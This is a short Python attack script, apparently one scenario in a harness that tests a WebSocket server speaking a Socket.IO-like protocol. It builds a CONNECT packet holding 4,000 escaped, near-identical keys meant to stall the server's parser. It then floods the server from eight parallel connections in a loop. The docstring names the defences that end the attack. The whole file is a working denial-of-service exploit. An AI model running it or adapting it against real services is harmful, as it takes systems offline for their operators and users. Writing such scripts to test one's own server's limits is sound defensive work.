"""Thousands of keys that look alike.

Does: sends CONNECT again and again, before it shows any token, with an object of 4,000 long keys; all are escapes
    (`\\u0061…`) that differ at the end only.
Breaks: a parser compares each key with all earlier ones and decodes them millions of times, and the loop stands
    still.
Limit: key hashes that nobody can foresee; 16 KiB of auth payload; ten refused CONNECTs end a connection.
"""

from lines import frame, web_socket

PROOF = "connects"


def escaped(text):
    return "".join(f"\\u{ord(letter):04x}" for letter in text)


KEYS = 4000
PACKET = frame(("40{" + ",".join(f'"{escaped(f"aaaa{key:04}")}":0' for key in range(KEYS)) + "}").encode())


async def attack(target):
    await target.crowd(8, connect)


async def connect(target):
    async with await web_socket(target) as line:
        while target.is_on():
            await line.send(PACKET)
            target.tally("connects")
            await line.until(rb"44", within=10)
